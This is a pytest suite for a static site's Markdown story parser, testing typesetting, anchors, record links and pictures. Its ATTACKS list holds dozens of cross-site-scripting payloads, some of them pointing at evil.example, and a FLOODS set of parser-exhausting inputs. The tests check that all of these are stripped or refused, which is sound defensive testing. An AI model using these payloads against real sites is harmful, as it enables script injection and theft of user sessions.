"""Stories: what Markdown becomes, where it leads, what is refused and what cannot get through."""

import html as entities
import re
import time
from concurrent.futures import ThreadPoolExecutor
from html.parser import HTMLParser

import markdown
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from batchpages.content import story
from batchpages.content.story import ParsedStory, locate, parse_story
from batchpages.diagnostics import Place, errors
from batchpages.model import Figure, FileLink, Heading, RecordLink

PATH = "content/batches/rose/story.md"
VOID = {"br", "hr", "img", "wbr", "col"}


def parse(text: str, language: str = "en") -> ParsedStory:
    return parse_story(text, PATH, language)


def html_of(text: str, language: str = "en") -> str:
    parsed = parse(text, language)
    return "".join(s if isinstance(s, str) else f"[{s}]" for s in parsed.story.segments)


def only_error(text: str) -> tuple[str, str, Place]:
    (diagnostic,) = parse(text).diagnostics
    assert diagnostic.severity == "error"
    return diagnostic.what, diagnostic.hint, diagnostic.place


class Reader(HTMLParser):
    """Reads HTML as it is and keeps its tags; a tag that does not fit is an error."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.open: list[str] = []
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.feed(html)
        self.close()
        assert not self.open

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, {name: value or "" for name, value in attrs}))
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag):
        assert self.open.pop() == tag


# --- Markdown ------------------------------------------------------------------------------------------------------------

ALL_SYNTAX = """# One *two*

Setext
------

A [link](maker:leila "title"), ![a picture](p.jpg "caption"), a [reference][r], `code`, an \\*escape\\*, <b>raw</b> & &copy; "quoted".
Two blanks  \nand a note[^n] -- said.

- a
    - b

1. one
2. two

> quoted
{: .cited }

    code block

| A | B |
|--:|---|
| 1 | 2 |

!!! note "Mind"
    inside

***

[r]: https://example.com/a
[^n]: The *note*.
"""
EVERYTHING = story.features(story.regular(ALL_SYNTAX))


def test_every_syntax_comes_out() -> None:
    html = html_of(ALL_SYNTAX)
    for piece in (
        '<h2 id="one-two">One <em>two</em></h2>',
        '<h2 id="setext">Setext</h2>',
        '<a href="https://example.com/a">reference</a>',
        "<code>code</code>",
        "*escape*",
        "<b>raw</b> &amp; ©",
        "“quoted”",
        "Two blanks<br>\nand a note",
        "<blockquote>",
        "<pre><code>code block\n</code></pre>",
        '<th class="align-right">A</th>',
        '<div class="admonition note">',
        '<p class="admonition-title">Mind</p>',
        "<hr>",
        "– said.",
    ):
        assert piece in html
    Reader("".join(s for s in parse(ALL_SYNTAX).story.segments if isinstance(s, str)))


def test_an_empty_story_is_no_mistake() -> None:
    assert parse("") == parse(" \n\n") == ParsedStory(story.Story())


def test_a_list_keeps_the_number_it_starts_with() -> None:
    assert '<ol start="3">' in html_of("3. three\n4. four")


def test_footnotes_do_not_leak_into_the_next_story() -> None:
    assert "the salt" in html_of("See[^a].\n\n[^a]: the salt")
    after = html_of("See[^a], and [^b].\n\n[^b]: the oil")
    assert "the salt" not in after
    assert "See[^a]" in after


def test_the_way_back_from_a_footnote_speaks_the_language_of_the_site() -> None:
    text = "See[^a].\n\n[^a]: note"
    assert 'title="Voltar à nota 1 no texto"' in html_of(text, "pt-BR")
    assert 'title="Back to note 1 in the text"' in html_of(text, "th")


def test_references_do_not_leak_into_the_next_story() -> None:
    assert "href" in html_of("[a][b]\n\n[b]: https://example.com")
    assert "href" not in html_of("[a][b]\n\n[c]: https://example.com")


TOKENS = st.sampled_from(
    [
        *(
            "a",
            "word ",
            "é",
            "  ",
            " ",
            "\n",
            "\n\n",
            "  \n",
            "    ",
            "\t",
            "# ",
            "## a #",
            "=\n",
            "---\n",
            "***",
            "- ",
            "1. ",
            "> ",
            "* ",
            "*",
            "**",
            "_",
            "__",
        ),
        *(
            "`",
            "``",
            "\\",
            "\\*",
            "[",
            "]",
            "](",
            ")",
            "[a](b)",
            "![a](b.jpg)",
            "[^1]",
            "[^1]: ",
            "[r]",
            "[r]: https://x.example",
            "<b>",
            "</b>",
            "<",
            ">",
            "<div>",
        ),
        *(
            "</div>",
            "<!-- c -->",
            "<https://x.example>",
            "&",
            "&amp;",
            "&#33;",
            "|",
            "a|b\n-|-\n1|2",
            "{: .x }",
            "{",
            "}",
            "!!! note\n    ",
            "!",
            '"',
            "'",
            "--",
            "...",
        ),
    ]
)
TEXTS = st.lists(TOKENS, max_size=25).map("".join)


@settings(max_examples=300, deadline=None, derandomize=True, database=None)
@given(TEXTS)
def test_a_story_that_pays_for_its_own_syntax_alone_comes_out_the_same(text: str) -> None:
    text = story.regular(text)
    assert story.clean(story.convert(text, story.features(text), "en")) == story.clean(story.convert(text, EVERYTHING, "en"))


def laid_out_alike(html: str) -> str:
    html = re.sub(r' class="align-\w+"|(?<= )title="(Jump )?[Bb]ack[^"]*"', "", story.clean(html))
    return re.sub(r"\s*(<[^>]*>)\s*", r"\1", re.sub(r"\s+", " ", html)).strip()


@settings(max_examples=200, deadline=None, derandomize=True, database=None)
@given(TEXTS.map(lambda text: re.sub(r"[\"']|--|\.\.\.", "", text)))
def test_it_is_what_the_library_alone_would_make(text: str) -> None:
    stock = markdown.Markdown(extensions=["tables", "footnotes", "attr_list", "admonition", "sane_lists", "smarty"], output_format="html")
    regular = story.regular(text)
    assert laid_out_alike(story.convert(regular, story.features(regular), "en")) == laid_out_alike(stock.convert(text))


@settings(max_examples=100, deadline=None, derandomize=True, database=None)
@given(TEXTS)
def test_any_text_gives_well_formed_html_and_the_same_again(text: str) -> None:
    parsed = parse(text)
    Reader("".join(s if isinstance(s, str) else "hole" for s in parsed.story.segments))
    assert parsed == parse(text)
    anchors = [heading.anchor for heading in parsed.story.headings]
    assert all(anchors)
    assert len(set(anchors)) == len(anchors)


def test_threads_do_not_disturb_each_other() -> None:
    texts = [f"# Number {n}\n\nSee[^a] the *{n}*th\n\n[^a]: note {n}" for n in range(60)]
    with ThreadPoolExecutor(8) as pool:
        assert list(pool.map(parse, texts)) == [parse(text) for text in texts]


# --- quotation marks -----------------------------------------------------------------------------------------------------

QUOTED = """He said "yes", and 'no'. "'Both'", she said. It's the '80s; rock 'n' roll... a--b, a---b, "end." ("in brackets") 'tis "so"--'not' x' 5' \
"a" 'b's c' "One" "two" '"Inner" first' --- "1st" of '99 ... \""""


@pytest.mark.parametrize("text", [*re.split(r"(?<=\.) ", QUOTED), QUOTED])
def test_english_is_typeset_as_smarty_does(text: str) -> None:
    stock = markdown.markdown(text, extensions=["smarty"])
    assert story.typeset(text, story.marks_of("en")) == entities.unescape(stock)[3:-4]


@settings(max_examples=300, deadline=None, derandomize=True, database=None)
@given(st.lists(st.sampled_from(['"', "'", " ", "a", "s", "The", "9", ".", ",", "(", ")", "–", "...", "--"]), min_size=1, max_size=12).map("".join))
def test_lone_marks_are_typeset_as_smarty_does(text: str) -> None:
    text = re.sub(r"([\"'.,-])(?:[\"'.,-]|(?<=-)-)+", r"\1 ", f"x {text} x")
    stock = entities.unescape(markdown.markdown(text, extensions=["smarty"]))[3:-4]
    assert story.typeset(text, story.marks_of("en")) == stock


@pytest.mark.parametrize(
    ("language", "printed"),
    [
        ("en", "“It’s ‘here’”"),
        ("de", "„It’s ‚here‘“"),
        ("de-AT", "„It’s ‚here‘“"),
        ("de-CH", "«It’s ‹here›»"),
        ("fr", "«\u202fIt’s “here”\u202f»"),
        ("pt-PT", "«It’s “here”»"),
        ("pt", "“It’s ‘here’”"),
        ("es", "«It’s “here”»"),
        ("pl", "„It’s «here»”"),
        ("sv", "”It’s ’here’”"),
        ("cs", "„It’s ‚here‘“"),
        ("xx", "“It’s ‘here’”"),
    ],
)
def test_each_language_has_its_marks(language: str, printed: str) -> None:
    assert html_of("\"It's 'here'\"", language) == f"<p>{printed}</p>"


def test_an_apostrophe_is_no_closing_mark() -> None:
    assert "Hans’ Seife, un po’ di sale" in html_of("Hans' Seife, un po' di sale", "de")


def test_marks_around_emphasis_close() -> None:
    assert html_of('"*Yes*" and "**no**".') == "<p>“<em>Yes</em>” and “<strong>no</strong>”.</p>"


def test_code_addresses_and_raw_html_keep_what_was_typed() -> None:
    html = html_of('`"a" -- b...`, <span title="it\'s -- so">c</span>, <https://x.example/a--b>, \\"plain\\"\n\n    "d" -- e')
    for piece in ('<code>"a" -- b...</code>', 'title="it\'s -- so"', 'href="https://x.example/a--b"', '"plain"', '<code>"d" -- e'):
        assert piece in html


# --- headings, excerpt, words --------------------------------------------------------------------------------------------


def test_headings_have_anchors_of_their_own() -> None:
    text = "# Crème Brûlée & Söhne\n\n## Øre *og* ære[^1]\n\n## Again\n\n### Again\n\n## Mine {: #again-2 }\n\n## レシピ\n\n## Ελληνικά\n\n## !?\n\n[^1]: x"
    assert parse(text).story.headings == (
        Heading(2, "Crème Brûlée & Söhne", "creme-brulee-sohne"),
        Heading(2, "Øre og ære", "ore-og-aere"),
        Heading(2, "Again", "again"),
        Heading(3, "Again", "again-3"),
        Heading(2, "Mine", "again-2"),
        Heading(2, "レシピ", "レシピ"),
        Heading(2, "Ελληνικά", "ελληνικα"),
        Heading(2, "!?", "section"),
    )
    assert '<h2 id="again-2">Mine</h2>' in html_of(text)
    assert not parse(text).diagnostics


def test_a_raw_heading_is_a_heading_too() -> None:
    assert html_of("<h1 class='x'>Salt</h1>") == '<h2 id="salt" class="x">Salt</h2>'


def test_an_id_that_stands_twice_is_an_error() -> None:
    what, _, place = only_error("## A {: #same }\n\n## B {: #same }")
    assert "`#same`" in what
    assert place == Place(PATH, text="#same", nth=1)


def test_the_excerpt_is_the_first_paragraph() -> None:
    text = '## Head\n\n![p](p.jpg)\n\n!!! note "Box"\n\nFirst "words"[^1] of *it*.\n\nSecond.\n\n[^1]: not this'
    assert parse(text).story.excerpt == "First “words” of it."
    assert parse("[^1]\n\n## Only").story.excerpt == "[^1]"
    assert parse("## Only").story.excerpt == ""


def test_a_long_excerpt_is_cut_at_a_word() -> None:
    excerpt = parse("word, " * 100).story.excerpt
    assert 180 < len(excerpt) <= 201
    assert excerpt.endswith("word…")
    assert parse("あ" * 500).story.excerpt == "あ" * 200 + "…"


def test_words_are_counted_without_tags_and_back_links() -> None:
    assert parse("## One two\n\n- three\n- *fo*ur[^1]\n\n| five | six |\n|---|---|\n| 7 | 8 |\n\n[^1]: nine").story.words == 9
    assert parse("塩と薔薇").story.words == 4


# --- links ---------------------------------------------------------------------------------------------------------------


def test_a_record_is_a_hole_and_a_reference() -> None:
    parsed = parse("By [Leila](maker:leila-haddad) from [oil](ingredient:olive-oil#press), [Leila](maker:leila-haddad) again")
    assert parsed.story.segments == (
        '<p>By <a href="',
        RecordLink("maker", "leila-haddad"),
        '">Leila</a> from <a href="',
        RecordLink("ingredient", "olive-oil", "#press"),
        '">oil</a>, <a href="',
        RecordLink("maker", "leila-haddad"),
        '">Leila</a> again</p>',
    )
    assert parsed.references == (
        ("maker", "leila-haddad", Place(PATH, text="maker:leila-haddad")),
        ("ingredient", "olive-oil", Place(PATH, text="ingredient:olive-oil#press")),
        ("maker", "leila-haddad", Place(PATH, text="maker:leila-haddad", nth=1)),
    )
    assert parsed.diagnostics == ()


@pytest.mark.parametrize("kind", ["batch", "product", "maker", "ingredient", "stockist", "page"])
@pytest.mark.parametrize("text", ["[x]({})", "[x](<{}>)", "[x][y]\n\n[y]: {}", '<a href="{}">x</a>', "<p><a href='{}'>x</a></p>"])
def test_every_kind_of_record_can_be_linked_in_every_way(kind: str, text: str) -> None:
    assert [reference[:2] for reference in parse(text.format(f"{kind}:some-name")).references] == [(kind, "some-name")]


def test_a_file_beside_the_story_is_a_hole() -> None:
    parsed = parse('[report](lab.pdf), [page 2](<lab report.pdf#page=2> "T"), [again](lab%20report.pdf)')
    assert parsed.story.segments[:3] == ('<p><a href="', FileLink("lab.pdf"), '">report</a>, <a href="')
    assert parsed.story.segments[3:5] == (FileLink("lab report.pdf"), '#page=2" title="T">page 2</a>, <a href="') or "#page=2" in str(parsed.story.segments)
    assert [name for name, _ in parsed.files] == ["lab.pdf", "lab report.pdf", "lab report.pdf"]
    assert parsed.diagnostics == ()


@pytest.mark.parametrize(
    "target",
    ["https://example.com", "http://example.com/a?b=c&d#e", "HTTPS://EXAMPLE.COM/", "mailto:a@b.pt", "tel:+351289000214", "#part", "/about/", "/feed.xml", "/"],
)
def test_addresses_that_stay(target: str) -> None:
    parsed = parse(f"[x]({target})")
    assert parsed.diagnostics == ()
    assert "".join(map(str, parsed.story.segments)) == f'<p><a href="{entities.escape(target)}">x</a></p>'


@pytest.mark.parametrize(
    ("target", "says", "hints"),
    [
        ("makr:leila", "`makr:leila` is not a record", "did you mean `maker:leila`?"),
        ("Maker:leila", "is not a record", "did you mean `maker:leila`?"),
        ("maker:Leila Haddad", "cannot be a record", "did you mean `maker:leila-haddad`?"),
        ("maker:zoé", "cannot be a record", "did you mean `maker:zoe`?"),
        ("maker:", "cannot be a record", "maker:rose-balm"),
        ("maker:a--b", "cannot be a record", "did you mean `maker:a-b`?"),
        ("maker:leila#", "nothing after it", "`maker:leila`"),
        ("", "leads nowhere", "maker:leila"),
        ("javascript:alert(1)", "cannot begin with `javascript:`", "https://"),
        ("ftp://example.com/", "cannot begin with `ftp:`", "https://"),
        ("data:text/html,x", "cannot begin with `data:`", "https://"),
        ("//example.com", "how to reach", "https://"),
        ("/\\example.com", "how to reach", "https://"),
        ("https:example.com", "not a whole address", "https://example.com/page"),
        ("https://", "not a whole address", "https://example.com/page"),
        ("www.example.com", "on this site", "did you mean `https://www.example.com`?"),
        ("example.com/shop", "on this site", "did you mean `https://example.com/shop`?"),
        ("info@example.pt", "not an address yet", "did you mean `mailto:info@example.pt`?"),
        ("about", "neither a record nor a file", "page:about"),
        ("../other/lab.pdf", "leads out of the folder", "own folder"),
        ("%2e%2e/lab.pdf", "leads out of the folder", "own folder"),
        ("private.yaml", "never published", "analysis.pdf"),
        ("photo.jpg", "cannot be linked to", "![what it shows](photo.jpg)"),
        ("page.html", "cannot be linked to", "PDF"),
    ],
)
def test_wrong_targets_are_errors_at_their_place(target: str, says: str, hints: str) -> None:
    what, hint, place = only_error(f"Some [x](<{target}>) here")
    assert says in what
    assert hints in hint
    assert place == Place(PATH, text=target or "]()")
    assert "".join(map(str, parse(f"[x](<{target}>)").story.segments)) == "<p><a>x</a></p>"


# --- pictures ------------------------------------------------------------------------------------------------------------


def test_a_picture_that_stands_alone_takes_the_place_of_its_paragraph() -> None:
    parsed = parse("Before\n\n![Petals on a cloth](petals.jpg \"Picked at 'six'\")\n\nAfter")
    assert parsed.story.segments == ("<p>Before</p>\n", Figure("petals.jpg", "Petals on a cloth", "Picked at ‘six’"), "\n<p>After</p>")
    assert parsed.files == (("petals.jpg", Place(PATH, text="petals.jpg")),)
    assert parsed.diagnostics == ()


def test_a_picture_among_words_divides_the_paragraph() -> None:
    assert parse("One *two*\n![a](a.jpg)\nthree").story.segments == ("<p>One <em>two</em></p>\n", Figure("a.jpg", "a"), "\n<p>three</p>")


def test_a_picture_in_a_link_keeps_the_link() -> None:
    assert parse("[![a](a.jpg)](batch:rose)").story.segments == ('<a href="', RecordLink("batch", "rose"), '">', Figure("a.jpg", "a"), "</a>")


def test_a_picture_inside_other_marks_stays_where_it_is() -> None:
    assert parse("- ![a](a.jpg) x").story.segments == ("<ul><li>", Figure("a.jpg", "a"), " x</li>\n</ul>")
    assert parse("x *y ![a](a.jpg)*").story.segments == ("<p>x <em>y ", Figure("a.jpg", "a"), "</em></p>")


def test_a_raw_picture_is_a_picture() -> None:
    assert parse('<img src="a.jpg" alt="A &amp; B" title="C">').story.segments == (Figure("a.jpg", "A & B", "C"),)


def test_a_picture_of_this_site_stays() -> None:
    assert html_of("Leaf ![leaf](/leaf.png)") == '<p>Leaf <img alt="leaf" src="/leaf.png"></p>'


@pytest.mark.parametrize(
    ("text", "says", "hints"),
    [
        ("![](a.jpg)", "`a.jpg` is not described", "say what it shows"),
        ("![ ](a.jpg)", "is not described", "say what it shows"),
        ('<img src="a.jpg">', "is not described", "say what it shows"),
        ("![a](https://example.com/a.jpg)", "from elsewhere", "beside the story"),
        ("![a](//example.com/a.jpg)", "from elsewhere", "beside the story"),
        ("![a](data:image/png;base64,AAAA)", "from elsewhere", "beside the story"),
        ("![a]()", "has no file", "beside the story"),
        ("![a](lab.pdf)", "is no picture", "JPEG"),
        ("![a](a.svg)", "is no picture", "JPEG"),
        ("![a](../a.jpg)", "leads out of the folder", "own folder"),
    ],
)
def test_wrong_pictures_are_errors(text: str, says: str, hints: str) -> None:
    what, hint, _ = only_error(text)
    assert says in what
    assert hints in hint


# --- what cannot get through ---------------------------------------------------------------------------------------------

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "x <script>alert(1)</script> y",
    "<<script>script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    '<img src=x.jpg onerror="alert(1)" alt=x>',
    "<img src=x.jpg alt=x onerror=alert(1)//",
    '<img/src="x.jpg"/onerror="alert(1)"/alt="x">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='x.swf'></object><embed src='x.swf'>",
    "<form action='https://evil.example'><input name=p><button formaction=javascript:alert(1)>x</button></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='jav&#x0A;ascript:alert(1)'>x</a>",
    "<a href=' &#1; javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A&#x61&#x76&#x61script:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert(1)>",
    "<javascript://x.example/%0aalert(1)>",
    "[x]\n\n[x]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    '![x](x.jpg"onerror="alert(1))',
    "*x*{: onclick=alert(1) }",
    "# x {: onmouseover='alert(1)' style='position:fixed' }",
    "*x*{: href=javascript:alert(1) }",
    "[x](https://example.com){: onclick=alert(1) }",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<?xml <script>alert(1)</script>?>",
    "</p><script>alert(1)</script><p>",
    "`<script>`</code><script>alert(1)</script>",
    "[^a]\n\n[^a]: <script>alert(1)</script>",
    '[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: x',
    "a|b\n-|-\n<script>alert(1)</script>|<img src=x onerror=alert(1)>",
    '!!! note "<script>alert(1)</script>"\n    x',
    '[x](https://example.com "\\"onmouseover=\\"alert(1)")',
    '<a href="https://example.com" title=\'"><script>alert(1)</script>\'>x</a>',
    "<video><source onerror=alert(1)></video>",
    "<img src=x.jpg alt=x srcset='https://evil.example/x.png 2x'>",
    "<a href=/\\evil.example>x</a>",
    "<a href='/&#9;/evil.example'>x</a>",
    "<a href='\\\\evil.example'>x</a>",
    "<xmp><script>alert(1)</script></xmp>",
    "\x02wzxhzdk:0\x03<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt; <b title='&lt;script&gt;'>x</b>",
]
SAFE_TARGET = re.compile(r"(?:https?://|mailto:|tel:|#|/(?![/\\])).*|")


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("around", ["{}", "Words before {} and after", "- {}\n- x", "> {}"])
def test_nothing_hostile_gets_through(attack: str, around: str) -> None:
    parsed = parse(around.format(attack))
    html = "".join(s if isinstance(s, str) else "" for s in parsed.story.segments)
    for tag, attributes in Reader(html).tags:
        assert (
            tag in story.TAGS if hasattr(story, "TAGS") else tag not in {"script", "style", "iframe", "svg", "form", "input", "object", "base", "meta", "link"}
        )
        assert not any(name.startswith("on") or name in {"style", "srcset", "srcdoc", "formaction", "action", "data"} for name in attributes)
        assert SAFE_TARGET.fullmatch(attributes.get("href", "").lower())
        assert SAFE_TARGET.fullmatch(attributes.get("src", "").lower())
    for hole in parsed.story.segments:
        assert not isinstance(hole, RecordLink) or re.fullmatch(r"#?[\w-]*", hole.fragment)


@pytest.mark.parametrize(
    "attack", ["[x](javascript:alert(1))", "<a href='jav&#x0A;ascript:alert(1)'>x</a>", "[x](data:text/html,x)", "<a href='/&#9;/evil.example'>x</a>"]
)
def test_a_hostile_link_stops_the_build(attack: str) -> None:
    assert len(errors(parse(attack).diagnostics)) == 1


def test_a_hole_cannot_be_forged() -> None:
    forged = "RecordLink(kind='maker', slug='x') \x02klzzwxh:0000\x03 \x02wzxhzdk:0\x03 {hole} %s <RecordLink> &#2;wzxhzdk:0&#3;"
    assert all(isinstance(segment, str) for segment in parse(forged).story.segments)


@pytest.mark.parametrize(
    ("text", "named", "why"),
    [
        ("x <script>a</script> y <script>b</script>", "`<script>` is left out", "text, not programs"),
        ("<iframe src=https://x.example></iframe>", "`<iframe>` is left out", "another site"),
        ("<form>x</form>", "`<form>` is left out", "no forms"),
        ("<svg></svg>", "`<svg>` is left out", "picture"),
        ("<p style='color:red'>x</p>", "`style` is left out", "theme"),
        ("*x*{: onclick=alert(1) }", "`onclick` is left out", "programs"),
        ("Write to <name> here", "`<name>` is left out", "no tag"),
        ("<p width=3>x</p>", "`width` is left out", "does nothing"),
    ],
)
def test_what_is_left_out_is_said_once(text: str, named: str, why: str) -> None:
    (diagnostic,) = parse(text).diagnostics
    assert diagnostic.severity == "warning"
    assert named in diagnostic.what
    assert why in diagnostic.what
    assert locate(text, diagnostic.place.text, diagnostic.place.nth) == (1, text.index(diagnostic.place.text) + 1)


@pytest.mark.parametrize(
    "text", ["a < b and c > d", "`<script>`", "    <script>", "<!-- a note to myself -->", "<kbd>x</kbd> <https://x.example>", "{braces} {: .wide}"]
)
def test_what_is_allowed_is_not_reported(text: str) -> None:
    assert parse(text).diagnostics == ()


# --- floods --------------------------------------------------------------------------------------------------------------

KILOBYTES = 250_000
FLOODS = {
    "brackets": "[" * 4000,
    "picture brackets": "![" * 2000,
    "nested brackets": "[" * 2000 + "]" * 2000,
    "open links": "[a](" * 4000,
    "quotations": ">" * 5000,
    "spaced quotations": "> " * 5000,
    "lists in a line": "1. " * 5000,
    "rules that are none": "- " * 5000 + "x",
    "lists by indent": "\n".join("    " * n + "- x" for n in range(300)),
    "boxes by indent": "\n\n".join("    " * n + "!!! a" for n in range(300)),
    "stars": "*a" * (KILOBYTES // 2),
    "low lines": "a_b__" * (KILOBYTES // 5),
    "backticks": "`a" * (KILOBYTES // 2),
    "rows of backticks": "".join("`" * n + " " for n in range(600)),
    "backslashes": "\\" * KILOBYTES,
    "headings": "# a\n" * (KILOBYTES // 4),
    "underlined": "a\n=\n" * (KILOBYTES // 4),
    "declarations": "<![" * (KILOBYTES // 3),
    "comments": "<!--" * 1000,
    "comment ends": "<!-- " + "-- >" * 50_000,
    "open tags": "<a " * 20_000,
    "nested tags": "<div>" * 20_000,
    "tags that stay open": "".join(f"<p><b id=x{n}>" for n in range(900)),
    "tags that are closed too late": "".join(f"<p><b id=x{n}></i>" for n in range(600)) + "</b>" * 600,
    "footnotes": "x[^1]" * 5000 + "\n\n[^1]: y",
    "footnotes in footnotes": "x[^0]\n\n" + "\n\n".join(f"[^{n}]: x[^{n + 1}]" for n in range(5000)),
    "wide table": "|".join("a" * 2000) + "\n" + "|".join("-" * 2000) + "\n" + "x\n" * 2000,
    "long table": "a|b\n-|-\n" + "a|b\n" * 50_000,
    "entities": "&amp;" * (KILOBYTES // 5),
    "empty lines": "\n" * KILOBYTES,
    "one long word": "a" * KILOBYTES,
    "too long": "word " * 60_000,
}


@pytest.mark.parametrize("flood", FLOODS.values(), ids=FLOODS.keys())
def test_a_flood_is_answered_soon(flood: str) -> None:
    begun = time.perf_counter()
    parsed = parse(flood)
    for diagnostic in parsed.diagnostics:
        locate(flood, diagnostic.place.text, diagnostic.place.nth)
        assert diagnostic.hint
    assert time.perf_counter() - begun < 2


def test_a_flood_says_where_it_is() -> None:
    text = "All is well.\n\nThis one " + "[" * 30 + " is not."
    what, _, place = only_error(text)
    assert "30 brackets open at once" in what
    assert locate(text, place.text, place.nth) == (3, 1)


def test_what_people_write_is_no_flood() -> None:
    links = "\n".join(f"- [link {n}](https://example.com/{n}) (see *{n}*)" for n in range(300))
    table = "| a | b | c |\n|---|---|---|\n" + "| 1 | `2` | 3 |\n" * 300
    prose = "\n\n".join(f"# Part {n}\n\n" + "Rain fell on the *pans* for nineteen days. " * 30 + f"[^{n}]\n\n[^{n}]: Not {n}." for n in range(100))
    assert parse("\n\n".join((links, table, prose, "* * * * * * * * * * * * * * * *", "-" * 80))).diagnostics == ()


def test_deep_nesting_that_slips_through_is_an_error_all_the_same(monkeypatch: pytest.MonkeyPatch) -> None:
    def too_deep(*_arguments: object) -> str:
        raise RecursionError

    monkeypatch.setattr(story, "convert", too_deep)
    assert "nested too deeply" in only_error("x")[0]


# --- places --------------------------------------------------------------------------------------------------------------


def test_the_nth_link_is_found_and_code_is_passed_over() -> None:
    body = "`[x](maker:a)` [x](maker:a)\n\n    [x](maker:a)\n\n- y\n\n    [x](maker:a)\n"
    assert locate(body, "maker:a", 0) == (1, 20)
    assert locate(body, "maker:a", 1) == (7, 9)
    assert locate(body, "maker:a", 7) == (7, 9)


def test_a_word_in_the_prose_is_not_taken_for_the_target() -> None:
    assert locate("lab.pdf is [here](lab.pdf)", "lab.pdf", 0) == (1, 19)
    assert locate("maker:a, [x](maker:abc), [y](maker:a)", "maker:a", 0) == (1, 30)


@pytest.mark.parametrize(
    ("body", "target"),
    [
        ("\n[x](<my lab.pdf>)", "my lab.pdf"),
        ("\n[x](my\\_lab.pdf)", "my_lab.pdf"),
        ("\n[x](/a?b=1&amp;c)", "/a?b=1&c"),
        ("\n[x](/a_(b))", "/a_(b)"),
        ("\n[y]: /a 'title'", "/a"),
        ("\n<a class=x href='/a'>", "/a"),
        ("\n<img src=a.jpg>", "a.jpg"),
        ("\n<https://x.example/>", "https://x.example/"),
        ("\n[x]()", "]()"),
        ("\n<SCRIPT>", "<script"),
        ("\n`only in code`", "only in code"),
    ],
)
def test_targets_are_found_however_they_are_written(body: str, target: str) -> None:
    assert locate(body, target, 0)[0] == 2


def test_what_is_not_there_is_given_as_the_beginning() -> None:
    assert locate("abc", "xyz", 0) == (1, 1)
    assert locate("abc", "", 3) == (1, 1)


def test_every_place_of_a_story_can_be_found() -> None:
    text = "x [a](makr:b)\n\ny [a](makr:b) ![](p.jpg)\n\nz <script></script>"
    places = [(d.place.text, locate(text, d.place.text, d.place.nth)) for d in parse(text).diagnostics]
    assert sorted(places) == [("<script", (5, 3)), ("makr:b", (1, 7)), ("makr:b", (3, 7)), ("p.jpg", (3, 19))]
